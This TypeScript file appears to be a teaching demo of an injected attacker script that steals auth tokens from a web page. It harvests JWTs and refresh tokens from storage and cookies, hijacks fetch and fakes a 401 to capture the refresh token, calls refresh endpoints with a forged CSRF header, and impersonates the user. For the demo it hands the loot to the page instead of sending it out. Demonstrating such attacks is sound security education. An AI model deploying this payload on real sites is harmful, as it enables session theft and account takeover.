// The attacker's script. The page loads it as it would any script that slipped in: a bad dependency,
// or a hole in a template. It is given nothing. It knows what every script knows: the storages, the
// cookies, `fetch`, the buttons of the page, and the addresses that anybody can look up.
import type { How, Loot, Taken } from './chapters/4_storage/loot.ts';

const taken: Taken[] = [];
const honestFetch = globalThis.fetch;

search(JSON.stringify(localStorage), 'read');
search(JSON.stringify(sessionStorage), 'read');
search(document.cookie, 'read');

const app = document.querySelector<HTMLButtonElement>('[data-app] button');
if (app !== null) await listenIn(app);
const asked = has('refresh') ? false : await askForTokens();
const acted = await actAsTheUser();

// A real one would carry it home in a link or an image. This one hands it to the page, to be shown.
const loot: Loot = { taken, asked, acted };
document.dispatchEvent(new CustomEvent('loot', { detail: loot }));

/** Keeps whatever looks like a token. */
function search(text: string, how: How): void {
  const plain = text.replaceAll('\\"', '"');
  for (const [value] of plain.matchAll(/eyJ[\w-]+\.[\w-]+\.[\w-]+/g)) take('access', value, how);
  for (const [, value = ''] of plain.matchAll(/"refresh_?token":"([^"]+)"/gi)) {
    take('refresh', value, how);
  }
}

function take(kind: Taken['kind'], value: string, how: How): void {
  if (!taken.some((one) => one.value === value)) taken.push({ kind, value, how });
}

function has(kind: Taken['kind']): boolean {
  return taken.some((one) => one.kind === kind);
}

/** Puts itself in the place of `fetch`, presses a button of the page, and hears what passes by. */
async function listenIn(button: HTMLButtonElement): Promise<void> {
  let lied = false;
  await new Promise<void>((done) => {
    globalThis.fetch = async (input, init) => {
      const request = new Request(input, init);
      const isCall = new URL(request.url).pathname.startsWith('/api/');
      search(request.headers.get('Authorization') ?? '', 'heard');
      search(await request.clone().text(), 'heard');
      // One lie. At a 401 the page brings out its refresh token, and fetches new ones.
      if (isCall && !lied) {
        lied = true;
        return new Response(null, { status: 401 });
      }
      const response = await honestFetch(request);
      search(await response.clone().text(), 'heard');
      if (isCall) done();
      return response;
    };
    button.click();
    // A button that calls nothing would keep it waiting.
    setTimeout(done, 30_000);
  });
  globalThis.fetch = honestFetch;
}

/** The cookies go with it by themselves, and a script of the page may send the header. */
async function askForTokens(): Promise<boolean> {
  let granted = false;
  for (const url of ['/hybrid/refresh', '/cookie/refresh']) {
    const response = await honestFetch(url, { method: 'POST', headers: { 'X-CSRF': '1' } });
    granted ||= response.ok;
    search(await response.text(), 'asked');
  }
  return granted;
}

async function actAsTheUser(): Promise<string | null> {
  const token = taken.filter(({ kind }) => kind === 'access').at(-1)?.value;
  const response = await honestFetch('/api/protected', {
    headers: token === undefined ? { 'X-CSRF': '1' } : { Authorization: `Bearer ${token}` },
  });
  if (!response.ok) return null;
  const { user } = (await response.json()) as { user: { name: string } };
  return user.name.split(' ')[0] ?? user.name;
}
